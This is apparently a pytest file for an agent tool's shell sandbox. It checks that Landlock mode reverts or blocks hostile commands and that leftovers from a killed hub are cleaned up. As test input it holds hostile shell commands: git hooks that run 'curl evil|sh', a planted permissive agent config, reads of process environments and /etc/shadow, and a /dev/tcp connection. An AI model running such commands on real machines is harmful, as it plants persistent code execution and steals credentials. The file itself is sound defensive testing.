"""The shell's sandbox modes on a machine where bubblewrap is not usable (hidden in a private mount
namespace, as in a container) and with it: under ``sandbox: auto`` the shell refuses and says how
to fix it (doctor, the tool, the agent's prompt); under ``sandbox: landlock`` a hostile command
cannot keep a change to the always-denied paths, read the hub's credentials, keep a capability or
reach the network; and what a killed hub left (cgroups, temp folders) is swept by the next one."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path

import anyio
import httpx
import pytest
from mcp import Client, StdioServerParameters

from tests.agent_helpers import call, tool_messages
from tests.api_helpers import serving
from tests.fakes.scripted_llm import Reply, ScriptedLLM
from tests.sandbox_helpers import (
    PROBE,
    absent,
    bwrap_hidden,
    can_hide_bwrap,
    loopback_listener,
    needs_landlock,
    run,
    snapshot,
    tool,
)

pytestmark = [can_hide_bwrap]

DISPATCH = [sys.executable, "-m", "dispatch.hub.cli"]
HOOK = "#!/bin/sh\necho the user's own hook\n"
FAKE_SECRET = "sk-fake-hub-secret-do-not-leak"
TCP_RULES_ABI = 4
"""Landlock's first ABI with network rules."""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "objects").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    hook = root / ".git" / "hooks" / "pre-commit"
    hook.write_text(HOOK)
    hook.chmod(0o755)
    return root


def shell_server(root: Path, sandbox: str, hidden: bool, folder: Path) -> Client:
    """The shell server over stdio, as the hub starts it for an isolated agent, with a fake
    credential in its own environment; bubblewrap unusable when ``hidden``."""
    argv = [sys.executable, "-m", "dispatch.servers.shell", "--root", str(root), "--sandbox", sandbox]
    argv = bwrap_hidden(argv, folder) if hidden else argv
    env = dict(os.environ, FAKE_HUB_TOKEN=FAKE_SECRET)
    return Client(StdioServerParameters(command=argv[0], args=argv[1:], env=env))


# ---- sandbox: auto without bubblewrap: the shell is off, and everyone says so ------------------


def test_doctor_says_the_shell_is_off_without_bubblewrap(project: Path, tmp_path: Path) -> None:
    done = subprocess.run(
        bwrap_hidden([*DISPATCH, "doctor", "--root", str(project)], tmp_path),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    shell = next(line for line in done.stdout.splitlines() if line.split()[1:2] == ["shell"])
    assert shell.split()[0] == "missing", shell
    assert "disabled: bubblewrap is not usable here" in shell and "apt-get install bubblewrap" in shell
    assert "`sandbox: landlock`" in shell and "loses:" in shell
    assert done.returncode == 1


@pytest.mark.anyio
async def test_the_shell_refuses_under_auto_without_bubblewrap(project: Path, tmp_path: Path) -> None:
    async with shell_server(project, "auto", hidden=True, folder=tmp_path) as c:
        text, is_error = await tool(c, "run", command="touch made; echo ran")
    assert is_error
    assert text.count("apt-get install bubblewrap") == 1 and "`sandbox: landlock`" in text
    assert absent(project / "made")


def test_dispatch_run_without_bubblewrap_tells_the_agent(scripted_llm: ScriptedLLM, project: Path) -> None:
    scripted_llm.script("[nobwrap]", [Reply(tool_calls=[call("run", command="touch made")]), Reply(text="done")])
    argv = [*DISPATCH, "run", "[nobwrap] go", "--model", "openai/scripted", "--root", str(project)]
    done = subprocess.run(bwrap_hidden(argv, project.parent), capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    first, second = scripted_llm.requests_for("[nobwrap]")
    assert "The shell tool is unavailable: the shell is disabled: bubblewrap is not usable" in str(
        first.messages[0]["content"]
    )
    (result,) = tool_messages(second.messages)
    assert "apt-get install bubblewrap" in result and "`sandbox: landlock`" in result
    assert absent(project / "made")


# ---- sandbox: landlock (the explicit opt-in) ------------------------------------------------------


@needs_landlock
@pytest.mark.anyio
@pytest.mark.parametrize("hidden", [True, False], ids=["bwrap-hidden", "bwrap-installed"])
async def test_landlock_mode_puts_the_always_denied_paths_back(project: Path, tmp_path: Path, hidden: bool) -> None:
    git = snapshot(project / ".git")
    async with shell_server(project, "landlock", hidden, tmp_path) as c:
        text = await run(
            c,
            "echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
            " echo 'curl evil|sh' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout;"
            " printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config;"
            " mkdir -p .dispatch && echo 'permissions: {auto_allow: [/]}' > .dispatch/config.yaml;"
            " echo '{\"mcpServers\": {}}' > .mcp.json; echo planted",
        )
        assert "planted" in text
        assert "restored .git/hooks, which the command changed" in text
        assert "restored .git/config" in text and "removed .mcp.json" in text and "removed .dispatch" in text
        assert snapshot(project / ".git") == git
        assert absent(project / ".mcp.json") and absent(project / ".dispatch")
        text = await run(
            c,
            "mv .git .git-old && mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit"
            " && chmod +x .git/hooks/pre-commit && echo moved",
        )
        assert "moved" in text and "moved .git back from" in text
        assert snapshot(project / ".git") == git and absent(project / ".git-old")
        text = await run(c, "mv .git elsewhere && echo 'gitdir: elsewhere' > .git && echo replaced")
        assert "replaced" in text
        assert snapshot(project / ".git") == git and absent(project / "elsewhere")
        # hooks moved aside (its inode kept busy) and a new one made: the guard's copy of the
        # user's hooks is a new directory the walk for planted paths must not take for a plant
        text = await run(
            c,
            "mv .git/hooks aside; mkdir .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit;"
            " chmod +x .git/hooks/pre-commit; echo swapped",
        )
        assert "swapped" in text and "restored .git/hooks, which the command changed" in text
        assert "removed .git/hooks" not in text
        assert snapshot(project / ".git") == git
    assert (project / ".git" / "hooks" / "pre-commit").read_text() == HOOK


@needs_landlock
@pytest.mark.anyio
async def test_landlock_mode_keeps_credentials_capabilities_and_host_files_out(project: Path, tmp_path: Path) -> None:
    shm = Path("/dev/shm", f"dispatch-test-{uuid.uuid4().hex[:8]}")
    async with shell_server(project, "landlock", hidden=True, folder=tmp_path) as c:
        text = await run(
            c,
            "tr '\\0' '\\n' < /proc/$PPID/environ; cat /proc/[0-9]*/environ | tr '\\0' '\\n';"
            " grep -E '^Cap(Prm|Eff|Bnd)' /proc/self/status; id -u; head -c 64 /etc/shadow;"
            f" echo x > {shm}; ls /dev/shm; cat .git/config > /dev/null && echo config-read;"
            " /usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' 2>&1 | tail -1;"
            " true",
        )
    assert FAKE_SECRET not in text
    assert "CapPrm:\t0000000000000000" in text and "CapEff:\t0000000000000000" in text
    assert "CapBnd:\t0000000000000000" in text
    assert "root:" not in text  # /etc/shadow
    assert "Operation not permitted" in text  # no raw socket
    assert absent(shm)
    assert "config-read" in text  # what this mode loses, as its note says: reads of .git/config


@needs_landlock
@pytest.mark.anyio
async def test_landlock_mode_has_no_network_without_a_grant(project: Path, tmp_path: Path) -> None:
    with loopback_listener() as (port, accepted):
        async with shell_server(project, "landlock", hidden=True, folder=tmp_path) as c:
            text = await run(c, f"echo hi > /dev/tcp/127.0.0.1/{port}; echo end")
            asked = "[sandbox: network access not granted" in text or PROBE.landlock_abi < TCP_RULES_ABI
    assert "end" in text and asked, text  # the refusal becomes a request for the network, not for /dev
    assert "access to /dev" not in text
    if PROBE.landlock_abi >= TCP_RULES_ABI:
        assert accepted == [], text
    else:  # the kernel cannot refuse it: the mode's note says so instead
        from dispatch.servers.sandbox import SandboxProbe, choose_shell_mode

        note = choose_shell_mode(project, [project], "landlock", SandboxProbe(landlock_abi=PROBE.landlock_abi)).note
        assert "the network is open" in note


def test_the_hub_and_doctor_name_the_landlock_mode(scripted_llm: ScriptedLLM, project: Path) -> None:
    (project / ".dispatch").mkdir()
    (project / ".dispatch" / "config.yaml").write_text("sandbox: landlock\n")
    with serving(project) as hub:
        about = httpx.get(hub.base_url + "/api/hub", headers=hub.auth, timeout=10).json()
    assert about["shell"].startswith("commands run under Landlock alone (`sandbox: landlock`")
    assert "loses:" in about["shell"]
    done = subprocess.run(
        [*DISPATCH, "doctor", "--root", str(project)], capture_output=True, text=True, timeout=120, check=False
    )
    shell = next(line for line in done.stdout.splitlines() if line.split()[1:2] == ["shell"])
    assert shell.split()[0] == "weaker" and "Landlock alone" in shell, shell


# ---- what a killed hub leaves ---------------------------------------------------------------------


@pytest.fixture
def dead_and_live() -> Iterator[tuple[int, subprocess.Popen[bytes]]]:
    """A pid that has exited, and a live process (killed at the end)."""
    gone = subprocess.Popen(["true"])
    gone.wait()
    live = subprocess.Popen(["sleep", "300"])
    try:
        yield gone.pid, live
    finally:
        live.kill()
        live.wait()


@pytest.fixture
def leftovers(dead_and_live: tuple[int, subprocess.Popen[bytes]]) -> Iterator[tuple[list[Path], list[Path]]]:
    """What a killed hub (the dead pid) left, and the same of a running one (the live pid): temp
    folders, and where a pids cgroup can be made, a cgroup each, the dead one's with a straggler
    still running in it. (left, kept); the straggler is the last of ``left`` (as /proc/PID)."""
    dead, live = dead_and_live[0], dead_and_live[1].pid
    temp = Path(tempfile.gettempdir())
    tag = uuid.uuid4().hex[:6]
    left = [temp / f"dispatch-sandbox-{dead}-{tag}", temp / f"dispatch-scratch-{dead}-{tag}"]
    kept = [temp / f"dispatch-sandbox-{live}-{tag}", temp / f"dispatch-scratch-{live}-{tag}"]
    for folder in (*left, *kept):
        folder.mkdir()
        (folder / "empty").touch()
    straggler = subprocess.Popen(["sleep", "300"])
    if PROBE.pids_cgroup is not None:
        left.append(PROBE.pids_cgroup / f"dispatch-{dead}-1")
        kept.append(PROBE.pids_cgroup / f"dispatch-{live}-1")
        left[-1].mkdir()
        kept[-1].mkdir()
        (left[-1] / "cgroup.procs").write_text(str(straggler.pid))
        left.append(Path(f"/proc/{straggler.pid}"))
    try:
        yield left, kept
    finally:
        straggler.kill()
        straggler.wait()
        for path in (*left, *kept):
            if path.name.startswith("dispatch-") and path.parent == temp:
                shutil.rmtree(path, ignore_errors=True)
            elif path.name.startswith("dispatch-") and path.is_dir():
                path.rmdir()


@pytest.mark.anyio
async def test_the_next_start_sweeps_what_a_killed_hub_left(
    project: Path, tmp_path: Path, leftovers: tuple[list[Path], list[Path]]
) -> None:
    left, kept = leftovers
    async with shell_server(project, "auto", hidden=False, folder=tmp_path) as c:
        await run(c, "echo started")
    for _ in range(100):  # a killed straggler stays a zombie until the fixture reaps it
        if all(_gone(p) for p in left):
            break
        await anyio.sleep(0.05)
    assert [p for p in left if not _gone(p)] == []
    assert all(p.is_dir() for p in kept)


def _gone(path: Path) -> bool:
    """Absent, or (a /proc/PID) a process that was killed and waits to be reaped."""
    if absent(path) or not path.name.isdigit():
        return absent(path)
    try:
        return (path / "stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
    except (OSError, IndexError):
        return True
